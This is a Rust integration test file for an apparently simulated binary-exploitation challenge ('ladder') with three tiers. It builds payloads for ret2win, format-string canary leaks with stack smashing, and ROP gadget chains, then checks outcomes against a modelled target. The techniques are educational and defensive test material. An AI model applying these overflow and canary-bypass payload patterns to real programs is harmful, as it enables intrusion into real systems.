//! Integration tests for the three ladder tiers.
//!
//! Each test plays the exploit the way an attacker would: read what the
//! target discloses, build a payload from it, and check the classified
//! outcome and the output.

use ladder::model::image::IMAGE_BASE;
use ladder::{
    play, ChallengeTarget, Classification, Fault, Outcome, Request, TargetState, Trigger, TIER1,
    TIER2, TIER3,
};

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn hex_after(text: &str, prefix: &str) -> u64 {
    let start = text.find(prefix).unwrap_or_else(|| panic!("no {prefix:?} in {text:?}")) + prefix.len();
    let digits: String = text[start..]
        .trim_start_matches("0x")
        .chars()
        .take_while(|c| c.is_ascii_hexdigit())
        .collect();
    u64::from_str_radix(&digits, 16).unwrap()
}

fn overflow(payload: Vec<u8>) -> Request {
    Request::new("overflow", Some(payload))
}

fn leak(fmt: &str) -> Request {
    Request::new("leak", Some(fmt.as_bytes().to_vec()))
}

/// Filler, canary, saved frame pointer, then `chain`.
fn smash(filler: usize, canary: u64, chain: &[u64]) -> Vec<u8> {
    let mut payload = vec![b'A'; filler];
    payload.extend(canary.to_le_bytes());
    payload.extend([b'B'; 8]);
    for qword in chain {
        payload.extend(qword.to_le_bytes());
    }
    payload
}

// ═══ Tier 1: ret2win ═══

#[test]
fn test_tier1_echo_within_bounds() {
    let (outcome, out) = play(&TIER1, 1, overflow(vec![b'A'; 64]), b"").unwrap();
    assert_eq!(outcome, Outcome::Returned);
    let out = text(&out);
    assert!(out.contains(&format!("Data copied: {}\n", "A".repeat(64))));
    assert!(out.ends_with("\nReturned normally.\n"));
}

#[test]
fn test_tier1_echoes_any_payload_up_to_capacity() {
    for len in 0..=64usize {
        let payload: Vec<u8> = (0..len)
            .map(|i| match i % 4 {
                0 => 0x00,
                1 => 0xff,
                2 => 0x80 | i as u8,
                _ => b'a' + (i % 26) as u8,
            })
            .collect();
        let (outcome, out) = play(&TIER1, 6, overflow(payload.clone()), b"").unwrap();
        assert_eq!(outcome, Outcome::Returned, "len {len}");

        let mut echoed = b"Data copied: ".to_vec();
        echoed.extend(&payload);
        echoed.push(b'\n');
        assert!(
            out.windows(echoed.len()).any(|w| w == echoed.as_slice()),
            "len {len} not echoed"
        );
        assert!(out.ends_with(b"\nReturned normally.\n"));
    }
}

#[test]
fn test_tier1_ret2win() {
    let (_, listing) = play(&TIER1, 1, overflow(b"x".to_vec()), b"").unwrap();
    let win = hex_after(&text(&listing), "win_function at: ");
    assert_eq!(win, IMAGE_BASE + 0x1176);

    let mut payload = vec![b'A'; 64];
    payload.extend(win.to_le_bytes());
    let (outcome, out) = play(&TIER1, 1, overflow(payload), b"").unwrap();
    match outcome {
        Outcome::Exploited(inv) => {
            assert_eq!(inv.oracle, "win_function");
            assert_eq!(inv.trigger, Trigger::HijackedReturn);
        }
        other => panic!("unexpected {other:?}"),
    }
    let out = text(&out);
    assert!(out.ends_with("\n*** SUCCESS! You've exploited the vulnerability! ***\n"));
    assert!(!out.contains("Returned normally"));
}

#[test]
fn test_tier1_trailing_bytes_do_not_matter() {
    let mut payload = vec![b'A'; 64];
    payload.extend((IMAGE_BASE + 0x1176).to_le_bytes());
    payload.extend(b"trailing junk");
    let (outcome, _) = play(&TIER1, 2, overflow(payload), b"").unwrap();
    assert_eq!(outcome.classification(), Classification::Exploited);
}

#[test]
fn test_tier1_garbage_return_crashes() {
    let (outcome, out) = play(&TIER1, 1, overflow(vec![b'A'; 80]), b"").unwrap();
    assert_eq!(
        outcome,
        Outcome::Crashed(Fault::Segmentation { addr: 0x4141_4141_4141_4141 })
    );
    assert!(!text(&out).contains("SUCCESS"));
}

#[test]
fn test_tier1_stack_jump_is_injected_code() {
    let (_, listing) = play(&TIER1, 1, overflow(b"x".to_vec()), b"").unwrap();
    let buffer = hex_after(&text(&listing), "Buffer at: ");
    let mut payload = vec![0x90; 64];
    payload.extend(buffer.to_le_bytes());
    let (outcome, _) = play(&TIER1, 1, overflow(payload), b"").unwrap();
    assert_eq!(outcome, Outcome::Crashed(Fault::InjectedCode { addr: buffer }));
}

// ═══ Tier 2: canary leak ═══

#[test]
fn test_tier2_leak_then_exploit() {
    let (outcome, out) = play(&TIER2, 0x77, leak("%7$lx"), b"").unwrap();
    assert_eq!(outcome, Outcome::Returned);
    let canary = hex_after(&text(&out), "Debug: ");
    assert_eq!(canary & 0xff, 0);

    let admin = IMAGE_BASE + 0x1196;
    let (outcome, out) = play(&TIER2, 0x77, overflow(smash(64, canary, &[admin])), b"").unwrap();
    assert!(outcome.is_exploited());
    assert!(text(&out).ends_with("\n*** ADMIN ACCESS! Canary bypassed! ***\n"));
}

#[test]
fn test_tier2_leak_and_overflow_in_one_session() {
    let mut target = ChallengeTarget::new(&TIER2, 0x78, Vec::new());
    target.launch().unwrap();
    target.leak(b"%7$lx").unwrap();
    let canary = hex_after(&text(target.output()), "Debug: ");
    let outcome = target.overflow(&smash(64, canary, &[IMAGE_BASE + 0x1196])).unwrap();
    assert!(outcome.is_exploited());
    assert_eq!(target.state(), TargetState::Exploited);
}

#[test]
fn test_tier2_without_canary_aborts() {
    let payload = smash(64, 0x4141_4141_4141_4141, &[IMAGE_BASE + 0x1196]);
    let (outcome, out) = play(&TIER2, 3, overflow(payload), b"").unwrap();
    match outcome {
        Outcome::Aborted(mismatch) => assert_eq!(mismatch.found, 0x4141_4141_4141_4141),
        other => panic!("unexpected {other:?}"),
    }
    assert!(!text(&out).contains("ADMIN"));
}

#[test]
fn test_tier2_decoy_then_oracle() {
    let mut target = ChallengeTarget::new(&TIER2, 4, Vec::new());
    target.launch().unwrap();
    let canary = target.canary();
    let chain = [IMAGE_BASE + 0x11c1, IMAGE_BASE + 0x1196];
    match target.overflow(&smash(64, canary, &chain)).unwrap() {
        Outcome::Exploited(inv) => {
            assert_eq!(inv.oracle, "admin_shell");
            assert_eq!(inv.trigger, Trigger::GadgetChain { hops: 1 });
        }
        other => panic!("unexpected {other:?}"),
    }
    let out = text(target.output());
    assert!(out.ends_with("Data copied\nNormal user access\n\n*** ADMIN ACCESS! Canary bypassed! ***\n"));
}

#[test]
fn test_tier2_oracle_midpoint_is_misaligned() {
    let mut target = ChallengeTarget::new(&TIER2, 5, Vec::new());
    target.launch().unwrap();
    let canary = target.canary();
    let outcome = target.overflow(&smash(64, canary, &[IMAGE_BASE + 0x1196 + 4])).unwrap();
    assert!(matches!(
        outcome,
        Outcome::Crashed(Fault::MisalignedEntry { symbol: "admin_shell", offset: 4, .. })
    ));
}

#[test]
fn test_tier2_unknown_command() {
    let (outcome, out) = play(&TIER2, 1, Request::new("shell", None), b"").unwrap();
    assert_eq!(outcome, Outcome::Returned);
    assert!(text(&out).contains("Invalid arguments\n"));
}

// ═══ Tier 3: ROP ═══

#[test]
fn test_tier3_gadget_chain_sets_registers() {
    let (_, out) = play(&TIER3, 0xabc, leak("%17$lx"), b"").unwrap();
    let out = text(&out);
    let canary = hex_after(&out, "Custom format: ");
    let print_flag = hex_after(&out, "print_flag() address: ");
    let gadget = hex_after(&out, "Gadget at gadget_function+0x3c (");
    assert_eq!(gadget, hex_after(&out, "gadget_function() address: ") + 0x3c);

    let chain = [gadget, 0xdead, 0xbeef, 0xcafe, print_flag];
    let (outcome, out) = play(&TIER3, 0xabc, overflow(smash(128, canary, &chain)), b"").unwrap();
    match outcome {
        Outcome::Exploited(inv) => {
            assert_eq!(inv.oracle, "print_flag");
            assert!(!inv.shell);
            assert_eq!(inv.trigger, Trigger::GadgetChain { hops: 1 });
            assert_eq!(
                (inv.registers.rdi, inv.registers.rsi, inv.registers.rdx),
                (0xdead, 0xbeef, 0xcafe)
            );
        }
        other => panic!("unexpected {other:?}"),
    }
    assert!(text(&out).ends_with("*** You successfully exploited a hardened binary! ***\n"));
}

#[test]
fn test_tier3_session_over_input_lines() {
    let fresh = ChallengeTarget::new(&TIER3, 0x42, Vec::new());
    let canary = fresh.canary();
    let shell = fresh.image().address_of("give_shell").unwrap();

    let escaped: String = smash(128, canary, &[shell])
        .iter()
        .map(|b| format!("\\x{b:02x}"))
        .collect();
    let input = format!("leak %p\noverflow {escaped}\n");
    let (outcome, out) = play(&TIER3, 0x42, leak("%17$lx"), input.as_bytes()).unwrap();
    match outcome {
        Outcome::Exploited(inv) => assert_eq!(inv.oracle, "give_shell"),
        other => panic!("unexpected {other:?}"),
    }
    let out = text(&out);
    assert_eq!(out.matches("=== Information Disclosure ===").count(), 2);
    assert!(out.ends_with("*** Spawning shell... ***\n"));
}

#[test]
fn test_tier3_wrong_canary_aborts() {
    let mut target = ChallengeTarget::new(&TIER3, 0x42, Vec::new());
    target.launch().unwrap();
    let canary = target.canary();
    let print_flag = target.image().address_of("print_flag").unwrap();
    let outcome = target.overflow(&smash(128, canary ^ 0x100, &[print_flag])).unwrap();
    match outcome {
        Outcome::Aborted(mismatch) => {
            assert_eq!(mismatch.function, "vulnerable_copy");
            assert_eq!(mismatch.expected, canary);
            assert_eq!(mismatch.found, canary ^ 0x100);
        }
        other => panic!("unexpected {other:?}"),
    }
    assert_eq!(target.state(), TargetState::Aborted);
    let out = text(target.output());
    assert!(!out.contains("Flag captured"));
    assert!(!out.contains("Program exiting normally"));
}

#[test]
fn test_tier3_stack_is_not_executable() {
    let (_, out) = play(&TIER3, 9, leak("x"), b"").unwrap();
    let out = text(&out);
    let canary = hex_after(&out, "stack[8] = ");
    let stack = hex_after(&out, "Stack address: ");
    let (outcome, _) = play(&TIER3, 9, overflow(smash(128, canary, &[stack])), b"").unwrap();
    assert_eq!(outcome, Outcome::Crashed(Fault::NxViolation { addr: stack }));
}

#[test]
fn test_tier3_input_closed() {
    let (outcome, out) = play(&TIER3, 9, leak("%p"), b"").unwrap();
    assert_eq!(outcome, Outcome::Returned);
    assert!(text(&out).ends_with("> \nProgram exiting normally.\n"));
}

// ═══ Seeds and layout ═══

#[test]
fn test_aslr_only_on_hardened_tier() {
    let a = ChallengeTarget::new(&TIER3, 1, Vec::new());
    let b = ChallengeTarget::new(&TIER3, 2, Vec::new());
    assert_ne!(a.image().space.libc_base, b.image().space.libc_base);
    assert_ne!(a.image().space.stack_top, b.image().space.stack_top);
    assert_eq!(a.image().space.image_base, IMAGE_BASE);

    let c = ChallengeTarget::new(&TIER2, 1, Vec::new());
    let d = ChallengeTarget::new(&TIER2, 2, Vec::new());
    assert_eq!(c.image().space, d.image().space);
    assert_ne!(c.canary(), d.canary());
}

#[test]
fn test_same_seed_same_process() {
    let fmt = "%p %p %p %p %p %p %p %p";
    let (_, first) = play(&TIER3, 0x1234, leak(fmt), b"").unwrap();
    let (_, second) = play(&TIER3, 0x1234, leak(fmt), b"").unwrap();
    assert_eq!(first, second);
}

#[test]
fn test_exploit_classification_holds_across_seeds() {
    for seed in 0..8u64 {
        let mut target = ChallengeTarget::new(&TIER2, seed, Vec::new());
        target.launch().unwrap();
        let canary = target.canary();
        let outcome = target.overflow(&smash(64, canary, &[IMAGE_BASE + 0x1196])).unwrap();
        assert_eq!(outcome.classification(), Classification::Exploited, "seed {seed}");
    }
}
